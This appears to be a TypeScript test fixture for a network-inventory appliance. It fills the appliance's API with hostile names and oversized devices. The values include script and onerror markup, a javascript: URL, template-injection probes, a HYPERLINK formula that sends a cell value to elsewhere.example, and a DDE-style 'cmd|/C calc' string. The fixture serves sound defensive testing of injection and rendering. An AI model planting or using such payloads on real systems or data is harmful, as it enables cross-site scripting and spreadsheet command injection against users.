// Hostile page contents: maximum-length names, right-to-left text, markup, formulas, emoji, a host with the maximum
// number of addresses, and a device as large as the largest recording. No assertions.

import type { Client } from "../appliance/client.ts";
import { expectOk, type JsonRecord } from "../appliance/factories.ts";

/** Maximum length of a name, without a break opportunity. */
const NAME_MAX = 255;

/** Names that each attack a different context. */
export const HOSTILE_NAMES = {
  markup: fill(`<script>window.broken = "markup"</script><img src=x onerror="window.broken = 'image'">`),
  rightToLeft: fill("\u202eשרת-הדפסה‏ خادم "),
  emoji: fill("🖨️👩‍🔧🏴‍☠️"),
  formula: fill(`=HYPERLINK("http://elsewhere.example/?"&A1,"click")`),
  plus: "+1+cmd|' /C calc'!A0",
  at: "@SUM(1,1)",
  template: "{{7*7}}${7*7}<%= 7*7 %>",
  spaces: `a${" ".repeat(40)}b`,
} as const;

/** Interface count of the largest recorded device. */
export const INTERFACES = 3_271;
/** Maximum number of addresses per host. */
export const ADDRESSES = 10_000;

export interface HostileNetwork {
  /** Hosts by type of name. */
  readonly hosts: Readonly<Record<keyof typeof HOSTILE_NAMES, JsonRecord>>;
  /** Device with many interfaces, and neighbors with hostile names or none. */
  readonly device: JsonRecord;
  /** Host with many addresses. */
  readonly server: JsonRecord;
  readonly interfaceId: string;
  readonly subnet: JsonRecord;
  readonly vlan: JsonRecord;
}

function fill(text: string): string {
  return text + "x".repeat(Math.max(0, NAME_MAX - text.length));
}

/** Fills a network through the API. */
export async function fillHostile(client: Client, networkId: string): Promise<HostileNetwork> {
  const { markup, rightToLeft, emoji, formula } = HOSTILE_NAMES;
  const add = (path: string, fields: JsonRecord) => expectOk(client.post(path, { network_id: networkId, ...fields }));
  const tag = await expectOk(client.post("tags", { name: markup, color: "Red", description: rightToLeft }));
  const vlan = await add("vlans", { number: 666, name: rightToLeft, description: markup });
  const subnetFields = { cidr: "10.0.0.0/16", subnet_type: "Lan", vlan_id: vlan.id, tags: [tag.id] };
  const subnet = await add("subnets", { name: markup, description: formula, ...subnetFields });
  const range = { first: "10.0.200.0", last: "10.0.200.255", purpose: "Dhcp", description: markup };
  await add("ip-ranges", { subnet_id: subnet.id, ...range });
  const hosts: Record<string, JsonRecord> = {};
  for (const [index, [key, name]] of Object.entries(HOSTILE_NAMES).entries()) {
    const address = { subnet_id: subnet.id, ip_address: `10.0.100.${index + 1}`, mac_address: macOf(0x10000 + index) };
    hosts[key] = await add("hosts", {
      name,
      hostname: name,
      description: markup,
      sys_descr: formula,
      sys_location: rightToLeft,
      hidden: false,
      tags: [tag.id],
      management_url: "javascript:window.broken='url'",
      ip_addresses: [{ ...address, name }],
      ports: [{ number: 443, protocol: "Tcp" }],
      services: [{ name, service_definition: formula.slice(0, 100) }],
    });
  }
  const addLarge = async (fields: JsonRecord): Promise<JsonRecord> =>
    (await expectOk(client.post("hosts/bulk", [{ network_id: networkId, hidden: false, tags: [], ...fields }])))[0];
  const interfaces = Array.from({ length: INTERFACES }, (_, index) => interfaceOf(index + 1, vlan.id));
  const device = await addLarge({ name: "chassis", interfaces });
  const ip_addresses = Array.from({ length: ADDRESSES }, (_, index) => ({
    subnet_id: subnet.id,
    ip_address: `10.0.${Math.floor(index / 256)}.${index % 256}`,
    mac_address: macOf(0x20000 + (index % 3)),
    name: index % 100 === 0 ? markup : null,
  }));
  const server = await addLarge({ name: emoji, ip_addresses });
  const [entry] = (await expectOk(client.get(`if-entries?host_id=${device.id}&limit=1`))) as unknown as [JsonRecord];
  return { hosts: hosts as HostileNetwork["hosts"], device, server, interfaceId: entry.id, subnet, vlan };
}

/** Interface of a modular chassis: twelve modules of 48 ports, then logical interfaces. */
function interfaceOf(index: number, vlanId: string): JsonRecord {
  const { markup, rightToLeft, formula } = HOSTILE_NAMES;
  const isPort = index <= 12 * 48;
  const [module, port] = [Math.ceil(index / 48), ((index - 1) % 48) + 1];
  const name = isPort ? `TenGigabitEthernet${module}/${port}` : `Vlan${index}`;
  return {
    if_index: index,
    if_descr: name,
    if_name: isPort ? `Te${module}/${port}` : `Vl${index}`,
    if_alias: index === 1 ? markup : index === 2 ? rightToLeft : index === 3 ? formula : null,
    if_type: isPort ? 6 : 53,
    speed_bps: isPort ? 10_000_000_000 : null,
    admin_status: index % 11 === 0 ? "Down" : "Up",
    oper_status: index % 3 === 0 ? "Down" : "Up",
    ...(isPort ? { native_vlan_id: vlanId } : {}),
    ...(index === 4 ? { lldp_chassis_id: { subtype: "MacAddress", value: macOf(0x30001) } } : {}),
    ...(index === 5
      ? {
          lldp_chassis_id: { subtype: "LocallyAssigned", value: markup },
          lldp_port_id: { subtype: "InterfaceName", value: rightToLeft },
          lldp_sys_name: markup,
        }
      : {}),
    ...(index === 7 ? { fdb_macs: Array.from({ length: 8 }, (_, n) => macOf(0x10000 + n)) } : {}),
  };
}

function macOf(number: number): string {
  return `00:1b:21:${number
    .toString(16)
    .padStart(6, "0")
    .replace(/(..)(..)(..)/, "$1:$2:$3")}`;
}
